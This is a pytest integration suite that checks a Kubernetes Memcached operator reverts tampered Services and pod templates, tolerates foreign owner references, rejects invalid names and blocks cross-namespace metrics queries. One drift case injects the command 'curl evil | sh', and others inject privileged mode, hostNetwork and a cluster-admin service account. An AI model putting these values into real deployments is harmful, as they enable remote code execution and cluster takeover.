"""Defects found in a review of the Memcached controller, each against the real operator process
on the emulated cluster: drift it did not see, owner references it fought over, names that
cannot work, and custom queries that read across namespaces."""

from __future__ import annotations

import time
from typing import Any

import pytest

from tests.integration.operator.conftest import StartOperator, StubPrometheus
from tests.integration.operator.test_memcached_controller import (
    DEPLOY,
    MC,
    SVC,
    condition,
    events_for,
    memcached,
    operator_writes,
)

pytestmark = pytest.mark.integration
JSON_PATCH = "application/json-patch+json"


def running(kube: Any, name: str) -> dict[str, Any]:
    return kube.wait_for(f"{MC}/{name}", lambda o: o.get("status", {}).get("phase") == "Running")


def test_a_key_added_to_the_services_selector_is_removed(cluster: Any, kube: Any,
                                                         start_operator: StartOperator) -> None:
    start_operator(resync=60)  # no timer: the Service's own event must bring the reconcile
    kube.create(MC, memcached("sel", size=1))
    running(kube, "sel")
    wanted = kube.get(f"{SVC}/sel")["spec"]["selector"]
    kube.patch(f"{SVC}/sel", {"spec": {"selector": {"tier": "nobody-has-this"}}})
    restored = kube.wait_for(f"{SVC}/sel", lambda s: s["spec"]["selector"] == wanted, timeout=5)
    assert "tier" not in restored["spec"]["selector"]


@pytest.mark.parametrize(("path", "value"), [
    ("/spec/template/spec/hostNetwork", True),
    ("/spec/template/spec/serviceAccountName", "cluster-admin-sa"),
    ("/spec/template/spec/containers/0/command", ["/bin/sh", "-c", "curl evil | sh"]),
    ("/spec/template/spec/containers/0/securityContext/privileged", True),
])
def test_fields_added_to_the_pod_template_are_removed(cluster: Any, kube: Any, start_operator: StartOperator,
                                                      path: str, value: Any) -> None:
    start_operator(resync=60)
    kube.create(MC, memcached("tpl", size=1))
    running(kube, "tpl")
    before = kube.get(f"{DEPLOY}/tpl")["spec"]["template"]
    kube.patch(f"{DEPLOY}/tpl", [{"op": "add", "path": path, "value": value}], content_type=JSON_PATCH)
    kube.wait_for(f"{DEPLOY}/tpl", lambda d: d["spec"]["template"] == before, timeout=5)


def test_another_tools_owner_reference_is_kept_without_a_fight(cluster: Any, kube: Any,
                                                                start_operator: StartOperator) -> None:
    start_operator(resync=0.5)
    kube.create(MC, memcached("refs", size=1))
    running(kube, "refs")
    theirs = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "name": "app", "uid": "argo-uid-1"}
    live = kube.get(f"{DEPLOY}/refs")
    kube.patch(f"{DEPLOY}/refs", {"metadata": {"ownerReferences": [*live["metadata"]["ownerReferences"], theirs]}})
    time.sleep(1.5)  # three resyncs and the Deployment's own event
    since = time.time()
    time.sleep(2)
    refs = kube.get(f"{DEPLOY}/refs")["metadata"]["ownerReferences"]
    assert theirs in refs and sum(1 for r in refs if r.get("controller")) == 1
    assert operator_writes(cluster, since) == 0, "keeping both references must not cost a write per resync"


def test_our_controller_reference_is_put_back_beside_theirs(cluster: Any, kube: Any,
                                                            start_operator: StartOperator) -> None:
    start_operator(resync=0.5)
    mc = kube.create(MC, memcached("back", size=1))
    running(kube, "back")
    theirs = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "name": "app", "uid": "argo-uid-2"}
    ours = kube.get(f"{DEPLOY}/back")["metadata"]["ownerReferences"][0]
    kube.patch(f"{DEPLOY}/back", {"metadata": {"ownerReferences": [theirs, {**ours, "blockOwnerDeletion": False}]}})
    dep = kube.wait_for(f"{DEPLOY}/back", lambda d: ours in d["metadata"]["ownerReferences"], timeout=5)
    assert theirs in dep["metadata"]["ownerReferences"]
    assert ours["uid"] == mc["metadata"]["uid"]


@pytest.mark.parametrize(("name", "why"), [
    ("with.dots", "DNS-1035"),
    ("a-cache-whose-name-is-much-too-long-for-its-pods-names", "at most 46"),
])
def test_names_that_cannot_work_are_refused_up_front(cluster: Any, kube: Any, start_operator: StartOperator,
                                                     name: str, why: str) -> None:
    start_operator(resync=0.5)
    kube.create(MC, memcached(name, size=1))
    mc = kube.wait_for(f"{MC}/{name}", lambda o: o.get("status", {}).get("phase") == "Error")
    degraded = condition(mc, "Degraded")
    assert degraded["reason"] == "InvalidName" and why in degraded["message"]
    assert [e["reason"] for e in events_for(kube, name) if e["type"] == "Warning"] == ["InvalidName"]
    assert not kube.exists(f"{DEPLOY}/{name}") and not kube.exists(f"{SVC}/{name}")
    since = time.time()
    time.sleep(2)
    assert operator_writes(cluster, since) == 0, "a refused name must not fail every resync"


def test_the_emulated_api_server_refuses_a_service_name_with_dots(kube: Any) -> None:
    """The reason the name check exists: the real API server answers 422, and so does ours."""
    from devcluster import ApiError

    with pytest.raises(ApiError) as info:
        kube.create(SVC, {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "with.dots"},
                          "spec": {"ports": [{"port": 1}]}})
    assert info.value.status == 422


def test_a_custom_metrics_query_needs_the_administrators_opt_in(
    cluster: Any, kube: Any, start_operator: StartOperator, stub_prometheus: StubPrometheus,
) -> None:
    stub_prometheus.value = "30"
    leak = 'sum(memcached_current_connections{namespace="other-tenant"})'
    start_operator(resync=0.5, PROMETHEUS_URL=stub_prometheus.url)
    kube.create(MC, memcached("nosy", size=1, targetConnectionsPerReplica=10, metricsQuery=leak))
    mc = kube.wait_for(f"{MC}/nosy", lambda o: condition(o, "Degraded").get("reason") == "MetricsQueryNotAllowed")
    assert "activeConnections" not in mc["status"], "no number from another namespace lands in status"
    assert not any("other-tenant" in q for q in stub_prometheus.queries)


def test_an_allowed_custom_metrics_query_is_used(
    cluster: Any, kube: Any, start_operator: StartOperator, stub_prometheus: StubPrometheus,
) -> None:
    stub_prometheus.value = "30"
    query = 'sum(my_client_side_connections{namespace="default"})'
    start_operator(resync=0.5, PROMETHEUS_URL=stub_prometheus.url, ALLOW_CUSTOM_METRICS_QUERIES="true")
    kube.create(MC, memcached("client", size=1, targetConnectionsPerReplica=10, metricsQuery=query))
    kube.wait_for(f"{DEPLOY}/client", lambda d: d["spec"]["replicas"] == 3)
    mc = kube.wait_for(f"{MC}/client", lambda o: o.get("status", {}).get("activeConnections") == 30)
    assert condition(mc, "Degraded")["status"] == "False"
    assert any("my_client_side_connections" in q for q in stub_prometheus.queries)
